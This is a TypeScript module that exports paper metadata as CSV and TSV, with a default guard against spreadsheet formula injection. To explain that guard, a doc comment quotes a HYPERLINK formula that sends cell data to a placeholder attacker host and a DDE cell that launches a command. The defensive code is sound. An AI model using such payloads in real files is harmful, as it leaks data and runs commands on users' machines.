/**
 * CSV (RFC 4180) and TSV export of papers. Columns are the JSON fields (README
 * "JSON output"), with `urls` spread over `urls.hf`, `urls.arxiv`, `urls.pdf`.
 * Cells: arrays joined with `; `, null → empty, numbers as digits, text exact.
 */
import type { PaperRow } from '../model.js';
import { fieldValue, flatColumns } from './fields.js';
import { paperJson } from './json.js';

/** Options of toCsv. */
export interface CsvOptions {
  /**
   * Neutralize spreadsheet formulas (default true): a text cell starting with `=`, `+`,
   * `-`, `@`, TAB or CR gets a leading `'`. See {@link csvCell}.
   */
  neutralizeFormulas?: boolean;
}

/** Separator for array values (authors, keywords, categories) inside one cell. */
export const LIST_SEPARATOR = '; ';

// OWASP "CSV Injection": the characters a spreadsheet takes as the start of a formula.
const FORMULA_START = /^[=+\-@\t\r]/;
// RFC 4180 §2.6: fields containing these must be quoted.
const NEEDS_QUOTES = /[",\r\n]/;

/** A cell's text before quoting: arrays joined, null/undefined empty, objects as JSON. */
function cellText(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (Array.isArray(value)) return value.map(cellText).join(LIST_SEPARATOR);
  if (typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

/**
 * One CSV cell. Text from the network is untrusted, and a CSV is usually opened in a
 * spreadsheet, where a cell like `=HYPERLINK("https://evil.example/?"&A1,"click")` or
 * `+cmd|'/c calc'!A0` is executed (OWASP CSV injection). So, by default, a *text* value
 * starting with `=`, `+`, `-`, `@`, TAB or CR gets a `'` in front, which spreadsheets show
 * as plain text. This does change data for a program reading the file, but only in cells
 * a spreadsheet would have evaluated anyway (`-based` shows as `#NAME?` in Excel), and
 * numbers are never touched: all our numbers are non-negative counts and ids never start
 * with those characters. Programs that want exact text should read TSV or JSON, or pass
 * `neutralizeFormulas: false`.
 */
export function csvCell(value: unknown, neutralizeFormulas = true): string {
  let text = cellText(value);
  if (neutralizeFormulas && typeof value !== 'number' && FORMULA_START.test(text)) text = `'${text}`;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** The CSV header line (with CRLF) for the given columns. */
export function csvHeader(columns: readonly string[]): string {
  return columns.map((c) => csvCell(c, false)).join(',') + '\r\n';
}

/** One paper as a CSV record (with CRLF); `columns` from flatColumns. */
export function csvRecord(row: PaperRow, columns: readonly string[], opts: CsvOptions = {}): string {
  const obj = paperJson(row);
  return columns.map((c) => csvCell(fieldValue(obj, c), opts.neutralizeFormulas ?? true)).join(',') + '\r\n';
}

/**
 * Papers as RFC 4180 CSV: a header row, CRLF line ends, fields with `,` `"` CR or LF
 * quoted and quotes doubled. `fields` as accepted by `--fields` (default: all).
 */
export function toCsv(rows: readonly PaperRow[], fields?: readonly string[], opts: CsvOptions = {}): string {
  const columns = flatColumns(fields);
  return csvHeader(columns) + rows.map((r) => csvRecord(r, columns, opts)).join('');
}

/** One TSV cell: tabs and line breaks (runs of them) become one space, so a value never splits a record. */
export function tsvCell(value: unknown): string {
  return cellText(value).replace(/[\t\r\n]+/g, ' ');
}

/** The TSV header line (with LF). */
export function tsvHeader(columns: readonly string[]): string {
  return columns.map(tsvCell).join('\t') + '\n';
}

/** One paper as a TSV record (with LF). */
export function tsvRecord(row: PaperRow, columns: readonly string[]): string {
  const obj = paperJson(row);
  return columns.map((c) => tsvCell(fieldValue(obj, c))).join('\t') + '\n';
}

/**
 * Papers as TSV for `cut`/`awk`/`sort`: a header row, LF line ends, no quoting (the
 * IANA text/tab-separated-values rule: values cannot contain tabs or line breaks, so
 * those become spaces). Text is otherwise exact, formulas included: TSV is for scripts.
 */
export function toTsv(rows: readonly PaperRow[], fields?: readonly string[]): string {
  const columns = flatColumns(fields);
  return tsvHeader(columns) + rows.map((r) => tsvRecord(r, columns)).join('');
}
